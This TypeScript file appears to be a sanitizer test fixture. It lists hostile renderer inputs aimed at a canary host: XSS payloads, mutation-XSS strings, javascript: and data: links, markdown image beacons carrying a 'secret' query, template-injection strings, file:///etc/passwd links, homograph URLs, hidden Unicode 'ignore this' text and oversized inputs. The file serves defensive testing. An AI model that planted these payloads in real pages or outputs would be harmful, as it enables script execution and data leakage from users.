const c = '{canary}';
const js = `globalThis.pwned(1)`;
const hidden = Array.from('ignore this', (char) => String.fromCodePoint(0xe0000 + (char.codePointAt(0) ?? 0))).join('');

const templates: readonly string[] = [
  // Scripts and handlers
  `<script>${js}</script>`,
  `<script src="${c}/a.js"></script>`,
  `<SCRIPT/XSS SRC="${c}/b.js"></SCRIPT>`,
  `"><script>${js}</script>`,
  `</pre></code></p><script>${js}</script>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<img src=x onerror=${js}>`,
  `<img src="${c}/i.png" onload=${js}>`,
  `<img srcset="${c}/s.png 2x">`,
  `<body onload=${js}>`,
  `<input autofocus onfocus=${js}>`,
  `<details open ontoggle=${js}>`,
  `<marquee onstart=${js}>x</marquee>`,
  `<video src="${c}/v.mp4" poster="${c}/p.png" onerror=${js}></video>`,
  `<audio src="${c}/a.mp3" autoplay></audio>`,
  `<div onpointerenter=${js} style="position:fixed;inset:0">x</div>`,
  // Other documents
  `<iframe src="${c}/f"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned(1)</script>"></iframe>`,
  `<object data="${c}/o.swf"></object>`,
  `<embed src="${c}/e.svg">`,
  `<frameset><frame src="${c}/fs"></frameset>`,
  `<portal src="${c}/portal"></portal>`,
  // Addresses of the page itself
  `<meta http-equiv="refresh" content="0;url=${c}/meta">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${c}/">`,
  `<link rel=stylesheet href="${c}/l.css">`,
  `<link rel=prefetch href="${c}/pre">`,
  `<link rel=dns-prefetch href="${c}">`,
  `<link rel=preconnect href="${c}">`,
  `<link rel=modulepreload href="${c}/m.js">`,
  `<form action="${c}/form"><button autofocus>Set API Key</button></form>`,
  `<a href="${c}" ping="${c}/ping">x</a>`,
  // Drawings and formulas
  `<svg onload=${js}>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><use href="${c}/u.svg#x"/></svg>`,
  `<svg><image href="${c}/si.png"/></svg>`,
  `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe src="${c}/fo"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${js}">x</maction></math>`,
  `$$\\includegraphics{${c}/tex.png}$$ \\href{javascript:${js}}{x}`,
  `\`\`\`mermaid\ngraph TD; A["<img src='${c}/mermaid.png'>"]\n\`\`\`\nafter`,
  // Styles
  `<style>@import url(${c}/i.css); body{background:url(${c}/bg)}</style>`,
  `<div style="background:url(${c}/st)">x</div>`,
  `<p style="background-image:\\75\\72\\6c(${c}/esc)">x</p>`,
  // Markdown
  `![x](${c}/?q=secret)`,
  `![x][ref]\n\n[ref]: ${c}/ref "t"`,
  `[![x](${c}/in)](${c}/out)`,
  `[x](javascript:${js})`,
  `[x](JaVaScRiPt&colon;${js})`,
  `[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)`,
  `[x](vscode://file/etc/passwd) [y](command:workbench.action.terminal.new)`,
  `<javascript:${js}> <vbscript:x> <file:///etc/passwd>`,
  `[x](https://google.com@evil.test/) [y](https://xn--80ak6aa92e.com/) [z](https://\u0430pple.com/)`,
  `[x](${c}/a"onmouseover="${js})`,
  '````````````\n`````\n~~~~\n```js"><img src=x onerror=globalThis.pwned(1)>\nx\n```',
  // What parses twice
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  `<template><script>${js}</script><img src=x onerror=${js}></template>`,
  `<div><template shadowrootmode=open><img src="${c}/shadow"></template></div>`,
  `<xmp><p title="</xmp><svg/onload=${js}>">`,
  `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  `<![CDATA[<script>${js}</script>]]>`,
  `<?xml-stylesheet href="${c}/x.xsl"?>`,
  `&lt;script&gt;${js}&lt;/script&gt; &#60;img src=x onerror=${js}&#62;`,
  `{{constructor.constructor("${js}")()}} \${${js}} <%= ${js} %> {{{${js}}}}`,
  // Characters
  '\u202efdp.exe\u202c \u2066invisible\u2069 \u200b\u200d\ufeff',
  `nothing to see${hidden}here`,
  'a\u0000<script\u0000>globalThis.pwned(1)</script>\u0000',
  '\u001b[2J\u001b]8;;http://evil.test\u0007link\u001b]8;;\u0007\u0085\u2028\u2029',
  '\ud800 lone \udfff halves \ufffe\uffff',
  `Z${'\u0300\u0489'.repeat(2_000)}`,
  // Sizes
  `<img src=x onerror=${js}>`.repeat(30_000).slice(0, 1_000_000),
  `${'<div>'.repeat(20_000)}${'> '.repeat(5_000)}${'['.repeat(10_000)}${'*'.repeat(10_000)}`,
  `${'`'.repeat(50_000)}\n${'~'.repeat(50_000)}`,
];

/** What a model, a page it read or a repository may try. `canary` is the address that must never hear of it. */
export function hostileTexts(canary: string): readonly string[] {
  return templates.map((template) => template.replaceAll(c, canary));
}
